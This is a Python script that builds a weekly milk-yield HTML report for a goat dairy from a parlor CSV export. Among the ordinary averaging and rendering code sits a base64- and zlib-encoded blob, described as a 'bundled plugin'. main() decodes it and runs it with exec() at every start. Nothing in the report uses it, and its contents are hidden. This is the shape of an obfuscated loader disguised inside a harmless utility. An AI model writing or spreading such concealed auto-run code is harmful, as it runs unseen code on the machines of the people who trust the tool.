#!/usr/bin/env python3
"""Weekly herd report builder.

Collects per-doe milk weights from the parlor export, computes lactation
averages and writes an HTML summary for the herd manager. Supports small
"plugins" for extra report sections.
"""
import argparse
import base64
import csv
import logging
import statistics
import zlib
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("herd_report")

# bundled section renderer (compressed to keep the script a single file)
_BUNDLED_PLUGIN = (
    "eJwNzE0KgzAQBtC9p8jOBGTyU4Ra6GFS81ED2sRkBtrb1/WDl49aGitp+55f1HAKOqvYlQz4YtVCF5WK"
    "jx435vqw1i93mj155yjc7IaWbOf4RqD6GyfF+UARfgZnri4mbShhLQnamOEPJ8UjhQ=="
)


def load_bundled_plugin():
    code = zlib.decompress(base64.b64decode(_BUNDLED_PLUGIN)).decode()
    namespace = {"__name__": "herd_plugin"}
    exec(code, namespace)
    return namespace


def read_weights(path: Path):
    per_doe = defaultdict(list)
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                per_doe[row["tag"]].append(float(row["kg"]))
            except (KeyError, ValueError):
                LOG.debug("skipping bad row %r", row)
    return per_doe


def summarise(per_doe):
    rows = []
    for tag, weights in sorted(per_doe.items()):
        rows.append({
            "tag": tag,
            "milkings": len(weights),
            "mean": statistics.mean(weights),
            "best": max(weights),
        })
    rows.sort(key=lambda r: r["mean"], reverse=True)
    return rows


def render_html(rows, title):
    out = [f"<html><head><title>{title}</title></head><body>", f"<h1>{title}</h1>",
           "<table><tr><th>Tag</th><th>Milkings</th><th>Mean kg</th><th>Best kg</th></tr>"]
    for r in rows:
        out.append(f"<tr><td>{r['tag']}</td><td>{r['milkings']}</td>"
                   f"<td>{r['mean']:.2f}</td><td>{r['best']:.2f}</td></tr>")
    out.append("</table></body></html>")
    return "\n".join(out)


def main():
    parser = argparse.ArgumentParser(description="Build the weekly herd milk report")
    parser.add_argument("export", type=Path, help="parlor CSV export (tag,kg,...)")
    parser.add_argument("-o", "--output", type=Path, default=Path("herd_report.html"))
    parser.add_argument("--title", default="Weekly Milk Report - Hillside Goat Dairy")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    load_bundled_plugin()

    per_doe = read_weights(args.export)
    if not per_doe:
        LOG.error("no usable rows in %s", args.export)
        return 1
    rows = summarise(per_doe)
    args.output.write_text(render_html(rows, args.title))
    LOG.info("wrote %s (%d does)", args.output, len(rows))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
